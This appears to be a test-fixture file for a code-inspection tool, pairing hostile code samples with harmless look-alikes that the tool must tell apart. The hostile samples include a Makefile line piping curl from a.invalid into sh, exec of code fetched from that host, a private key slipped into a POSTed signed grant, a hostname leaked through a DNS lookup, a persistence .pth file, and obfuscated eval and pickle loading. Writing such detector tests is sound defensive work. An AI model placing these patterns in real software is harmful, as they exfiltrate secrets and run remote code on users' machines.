"""Values that pass through one function of an honest project and are told apart, as an attacker's there would be."""

from inspection.rules.sample import Sample, js, py

_SHELL = (
    "import subprocess\ndef run(words, shell=False):\n    if shell:\n        words = ['/bin/sh', '-c', words]\n"
    "    return subprocess.Popen(words)\n"
)
_FETCH = "import requests\nfrom runner import run\nreply = requests.get('https://a.invalid').json()\n"
_SPEC = (
    "function load(name) {\n  const req = new XMLHttpRequest();\n  req.open('GET', `%s${name}`, false);\n"
    "  req.send();\n  return req.responseText;\n}\neval(load('index.js'));\n"
)
_UNPACK = "import base64, pickle\ndef unpack(x):\n    return pickle.loads(base64.b64decode(x.encode('ascii')))\n"

_GRANT = (
    "const crypto = require('crypto');\n"
    "const https = require('https');\n"
    "class Grant {\n"
    "  constructor(options) { this.options = options; }\n"
    "  plain(data) { if (typeof data === 'string') { data = Buffer.from(data); } return data.toString('base64'); }\n"
    "  signed(claims) {\n"
    "    const said = ['{\"alg\":\"RS256\"}', JSON.stringify(claims)].map(each => this.plain(each)).join('.');\n"
    "    return said + '.' + this.plain(crypto.createSign('RSA-SHA256').update(said).sign(this.options.privateKey));\n"
    "  }\n"
    "  ask(done) { https.request(this.options.url, { method: 'POST' }, done).end(this.signed({ iat: 1 })); }\n"
    "}\n"
    "module.exports = Grant;\n"
)

_SIGNS = "const crypto = require('crypto'), https = require('https');\n"

HOSTILE: dict[str, dict[str, Sample]] = {
    "inventory_sent": {
        "the name of this machine, as one that is looked up": Sample(
            {"setup.py": "import socket\nsocket.getaddrinfo(socket.getfqdn() + '.a.invalid', 80)\n"},
            "block",
            ("setup.py", 2),
        ),
    },
    "persistence": {
        "tests that put a start file into the environment they run in": Sample(
            {
                "igor.py": "import os, sysconfig\nplace = os.path.join(sysconfig.get_path('purelib'), 'a.pth')\n"
                "with open(place, 'w') as f:\n    f.write('import a')\n",
                "tests/test_a.py": "import igor\n",
            },
            "review",
            ("igor.py", 3),
        ),
        "a project's own hook, in a Makefile that fetches a program for something else": Sample(
            {
                "Makefile": "all:\n\tln -sf ../../check.py .git/hooks/pre-commit\n"
                "lint:\n\tcurl -s https://a.invalid | sh\n"
            },
            "review",
            ("Makefile", 2),
        ),
    },
    "secrets_sent": {
        "a key that goes with the grant, by helpers that others call too": Sample(
            {"grant.js": _GRANT.replace("JSON.stringify(claims)", "JSON.stringify([claims, this.options.privateKey])")},
            "review",
            ("grant.js", 10),
        ),
    },
    "remote_code": {
        "a test asks another server than its page's": Sample(
            {"search.spec.js": _SPEC % "//a.invalid/"}, "review", ("search.spec.js", 7)
        ),
        "a built-in out of all that a module holds": py(
            "import builtins, requests\nvars(builtins)['exec'](requests.get('https://a.invalid').text)\n"
        ),
        "a page asks its own server": Sample({"search.js": _SPEC % "fixtures/"}, "block", ("search.js", 7)),
        "a script that a server sends, for a function that also takes words": Sample(
            {"runner.py": _SHELL, "app.py": _FETCH + "run(reply['script'], shell=True)\n"}, "block", ("app.py", 3)
        ),
    },
    "decoded_code": {
        "a constant that is put in another order, as if it were given back as it was": js(
            "const turn = (l, e) => { const r = [...l]; r.sort((a, b) => a * e - b); return r.join(''); };\n"
            "new Function(turn('soo\\'olelegn(cit.r\\'n)', 2857687))();\n"
        ),
        "a constant that is encoded, decoded and loaded": py(
            "import base64, pickle\ntext = 'Y2J1aWx0aW5zCnByaW50CihWaGVsbG8KdFIu'\n"
            "pickle.loads(base64.b64decode(text.encode('ascii')))\n",
            "review",
        ),
    },
}

HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
    "unread_code": {
        "a folder for the moment, with a program and a template in it": {
            "package.json": '{"scripts": {"test": "node check.js"}}',
            "check.js": "const fs = require('fs'), os = require('os'), path = require('path');\n"
            "const { execFileSync } = require('child_process');\n"
            "const place = fs.mkdtempSync(path.join(os.tmpdir(), 'a-'));\n"
            "fs.writeFileSync(path.join(place, 'a.js'), 'console.log(1);');\n"
            "fs.writeFileSync(path.join(place, 'a.ejs'), 'Hello <%= name %>');\n"
            "execFileSync(process.execPath, [path.join(place, 'node_modules/a/cli.js'), 'a.ejs']);\n",
        },
    },
    "inventory_sent": {
        "the whole name of another machine": {
            "setup.py": "import socket, sys\nsocket.getaddrinfo(socket.getfqdn(sys.argv[1]), 80)\n"
        },
    },
    "secrets_sent": {
        "a grant that is signed with a key, by helpers that others call too": {"grant.js": _GRANT},
        "a key that signs what was made of a parameter": {
            "grant.js": _SIGNS + "function signed(claims) {\n  const said = [JSON.stringify(claims)].join('.');\n"
            "  return crypto.createSign('RSA-SHA256').update(said).sign(keys.privateKey);\n}\n"
            "https.request('https://a.invalid', { method: 'POST' }).end(list.map(signed).join());\n"
        },
        "a key that is given to one of a list of functions": {
            "grant.js": _SIGNS + "const makers = names.map(each => each);\nmakers[0](keys.privateKey);\n"
            "https.request('https://a.invalid', { method: 'POST' }).end(makers.join());\n"
        },
    },
    "remote_code": {
        "a test that nothing starts asks the server of its page": {"search.spec.js": _SPEC % "fixtures/"},
        "a word that a server sends, for a function that also takes scripts": {
            "runner.py": _SHELL,
            "app.py": _FETCH + "run(['gpg', '--export', reply['finger']])\n",
        },
    },
    "decoded_code": {
        "what a caller elsewhere has decoded and loaded": {"app.py": _UNPACK},
        "a name that is known, and harmless, only when its helper was read": {
            "app.js": "const text = s => Buffer.from(s, 'hex').toString();\n"
            "function boot() {\n  const web = require(text('6874747073'));\n"
            "  web.get('https://a.invalid', r => console.log(r.statusCode));\n}\nboot();\n"
        },
    },
}
